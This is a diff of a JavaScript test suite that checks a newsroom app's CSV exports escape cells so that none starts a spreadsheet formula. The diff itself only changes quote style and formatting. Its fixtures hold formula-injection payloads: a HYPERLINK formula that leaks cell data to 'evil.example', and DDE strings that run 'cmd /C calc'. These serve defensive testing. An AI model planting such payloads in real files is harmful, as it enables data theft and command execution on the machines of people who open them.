@@ -10,7 +10,7 @@ const LINES = [
   '=HYPERLINK("https://evil.example/?leak="&A1,"click") was pasted into the story.',
   '+1 555 0100 is the number the mayor gave.',
   '-5% is what the council cut from the schools budget.',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0 appeared in the comments.',
+  "@SUM(1+1)*cmd|' /C calc'!A0 appeared in the comments.",
   'A plain sentence stays as it is.',
   'The sheet said\t=1+1 in a cell.',
 ];
@@ -18,7 +18,7 @@ const QUOTES = [
   '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
   '+1 555 0100',
   '-5% is what the council cut',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   'A plain sentence stays as it is.',
   '\t=1+1 in a cell',
 ];
@@ -44,7 +44,7 @@ describe('spreadsheet-safe downloads', () => {
     base = await app.listen();
     desk = await createDesk(app);
     token = (await app.ok(desk.viewer, `mutation { createApiToken(input: { name: "formula" }) { token } }`)).createApiToken.token;
-    const { id: articleId } = await createArticle(app, desk, { title: '=cmd|\' /C calc\'!A0', text: LINES.join('\n') });
+    const { id: articleId } = await createArticle(app, desk, { title: "=cmd|' /C calc'!A0", text: LINES.join('\n') });
     const speaker = await createSource(app, desk, { kind: 'PERSON', name: '@mention Person' });
     for (const [index, quote] of QUOTES.entries()) {
       const { id } = await createClaim(app, desk, articleId, quote, { speakerId: speaker });
@@ -63,7 +63,7 @@ describe('spreadsheet-safe downloads', () => {
     expect(records.map((record) => record.quote)).toEqual(QUOTES.map((quote) => (quote === QUOTES[4] ? quote : `'${quote}`)));
     expect(records.map((record) => record.published_rationale)).toEqual(["'=1+1 as the rationale", '', '', '', '', '']);
     for (const record of records) {
-      expect(record.article_title).toBe('\'=cmd|\' /C calc\'!A0');
+      expect(record.article_title).toBe("'=cmd|' /C calc'!A0");
       expect(record.speaker).toBe("'@mention Person");
       expect(record.article_url).toBe('https://news.example.com/budget');
       // no cell of the file starts a formula any more
@@ -82,7 +82,10 @@ describe('spreadsheet-safe downloads', () => {
   });
 
   it('keeps the exact text in JSON Lines and ClaimReview', async () => {
-    const lines = (await (await download(`/exports/verdicts.jsonl?team=${desk.teamSlug}`)).text()).trimEnd().split('\n').map((line) => JSON.parse(line));
+    const lines = (await (await download(`/exports/verdicts.jsonl?team=${desk.teamSlug}`)).text())
+      .trimEnd()
+      .split('\n')
+      .map((line) => JSON.parse(line));
     expect(lines.map((line) => line.quote)).toEqual(QUOTES);
     expect(lines[0].published.rationale).toBe(RATIONALES[0]);
     expect(lines[0].speaker.name).toBe('@mention Person');
